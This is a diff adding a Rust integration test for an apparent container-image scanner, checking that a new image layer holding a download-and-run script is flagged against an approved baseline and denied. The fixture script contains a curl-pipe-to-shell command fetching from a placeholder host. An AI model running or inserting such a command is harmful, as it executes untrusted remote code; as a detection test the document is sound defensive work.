@@ -1235,3 +1235,79 @@ fn tls_is_served_and_a_renewed_certificate_is_picked_up() {
     std::thread::sleep(Duration::from_secs(3));
     assert_eq!(curl_status(&srv.addr, &c2, "/healthz"), "200");
 }
+
+#[test]
+fn scans_are_gated_against_the_repository_approval() {
+    let Some(reg) = start(None) else { return };
+    let t = tmp();
+    let base = ImageBuilder::new()
+        .tag("v1")
+        .layer(LayerBuilder::new().file("app/main", b"app v1", 0o755));
+    let src1 = layout_of(&base.build(), &t.path().join("src1"));
+    push(
+        &format!("{src1}:v1"),
+        &format!("docker://{}/gated/app:v1", reg.addr),
+        None,
+        false,
+    );
+    let srv = Server::start(
+        t.path(),
+        free_port(),
+        &["--registry", &format!("{0}=http://{0}", reg.addr)],
+        &[],
+    );
+    // The team approves v1 in the server's store, as they would with the CLI.
+    let out = stowaway(&[
+        "baseline",
+        "approve",
+        &format!("docker://{}/gated/app:v1", reg.addr),
+        "--name",
+        "app-v1",
+        "--db",
+        srv.db.to_str().unwrap(),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let v2 = ImageBuilder::new().tag("v2").layer(
+        LayerBuilder::new().file("app/main", b"app v1", 0o755).file(
+            "usr/local/bin/fetch",
+            b"#!/bin/sh\ncurl -fsSL http://x.example/p | sh\n",
+            0o755,
+        ),
+    );
+    let src2 = layout_of(&v2.build(), &t.path().join("src2"));
+    push(
+        &format!("{src2}:v2"),
+        &format!("docker://{}/gated/app:v2", reg.addr),
+        None,
+        false,
+    );
+    let digest = digest_of(&reg, "gated/app:v2");
+    let r = post_json(
+        &srv.addr,
+        "/v1/scans",
+        &json!({"reference": format!("{}/gated/app@{digest}", reg.addr)}),
+    );
+    assert_eq!(r.status, 202);
+    let doc = wait_image(&srv.addr, &digest, Duration::from_secs(60));
+    assert_eq!(doc["baseline"]["name"], "app-v1", "{doc}");
+    assert!(
+        doc["delta"].to_string().contains("/usr/local/bin/fetch"),
+        "{}",
+        doc["delta"]
+    );
+    let states: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|f| f["baseline_state"].as_str())
+        .collect();
+    assert!(states.contains(&"new"), "{states:?}");
+    assert_eq!(
+        doc["verdict"], "deny",
+        "a new download-and-run script is denied by the default policy: {doc}"
+    );
+}
